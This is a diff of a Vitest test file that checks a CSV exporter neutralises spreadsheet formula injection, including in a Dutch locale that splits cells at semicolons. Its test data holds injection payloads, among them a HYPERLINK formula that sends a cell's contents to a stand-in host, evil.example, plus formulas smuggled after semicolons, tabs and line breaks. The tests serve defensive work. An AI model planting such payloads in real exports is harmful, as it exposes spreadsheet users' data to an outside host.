@@ -7,7 +7,7 @@
 import { describe, expect, it } from 'vitest';
 import { csvField, toCsvDocument } from '../../src/shared/csv.ts';
 import { toCsv, type ComparedIntervention } from '../../src/client/compare.ts';
-import { formulaCells, openAsSpreadsheet } from '../support/spreadsheet.ts';
+import { dutchFormulaCells, formulaCells, openAsDutchSpreadsheet, openAsSpreadsheet } from '../support/spreadsheet.ts';
 
 const attacks = [
   '=HYPERLINK("https://evil.example/?d="&A1,"Klik")',
@@ -39,12 +39,43 @@ describe('a CSV field', () => {
     expect(cells).toHaveLength(attacks.length + 1);
     expect(formulaCells(cells)).toEqual([]);
     // What the spreadsheet shows is the text, behind the apostrophe that marks it as text.
-    expect(cells.slice(1).map((c) => c.text)).toEqual(attacks.map((a) => `'${a}`));
+    // A tab or carriage return that the cell starts with is one inside it too, so what follows it is marked as well.
+    expect(cells.slice(1).map((c) => c.text)).toEqual(attacks.map((a) => `'${a}`.replace(/^'([\t\r])=/, "'$1'=")));
   });
 
   it('would have been run as a formula without the rule (the test can fail)', () => {
     const raw = `\uFEFFtitel\r\n${attacks[0]!.replaceAll('"', '""').replace(/^/, '"').replace(/$/, '"')}\r\n`;
     expect(formulaCells(sheetOf(raw)).map((c) => c.formula)).toEqual(['HYPERLINK("https://evil.example/?d="&A1,"Klik")']);
+  });
+});
+
+describe('a CSV file in a spreadsheet set to Dutch, which splits cells at semicolons', () => {
+  const inside = [
+    'Ouders;=HYPERLINK(B2&C2)',
+    'Ouders; +HYPERLINK(B2)',
+    'a;@SUM(A1:A9)',
+    'a;-2+3',
+    'Eerste regel\n=HYPERLINK(B2)',
+    'Eerste regel\r\n  +1+1',
+    'Kolom\t=1+1',
+  ];
+
+  it('gives it no formula to run where a field goes on after a semicolon, tab or line break', () => {
+    const csv = toCsvDocument([['titel', 'samenvatting'], ...inside.map((a) => [a, 'Een samenvatting, met een komma'])]);
+    expect(dutchFormulaCells(openAsDutchSpreadsheet(Buffer.from(csv)))).toEqual([]);
+    // The same file as a spreadsheet set to English reads it: the text is there, after an apostrophe.
+    const cells = sheetOf(csv);
+    expect(formulaCells(cells)).toEqual([]);
+    expect(cells.find((c) => c.text.startsWith('Ouders;'))?.text).toBe("Ouders;'=HYPERLINK(B2&C2)");
+  });
+
+  it('would have run them without the rule (the test can fail)', () => {
+    const raw = `titel,samenvatting\r\n${inside[0]},x\r\n`;
+    expect(dutchFormulaCells(openAsDutchSpreadsheet(Buffer.from(raw))).map((c) => c.formula)).toEqual(['HYPERLINK(B2&C2),x']);
+  });
+
+  it('leaves a Markdown list in a body as it is', () => {
+    expect(csvField('## Aanpak\n\n- Eerst bellen\n- Dan langsgaan; - daarna')).toBe('"## Aanpak\n\n- Eerst bellen\n- Dan langsgaan; - daarna"');
   });
 });
 
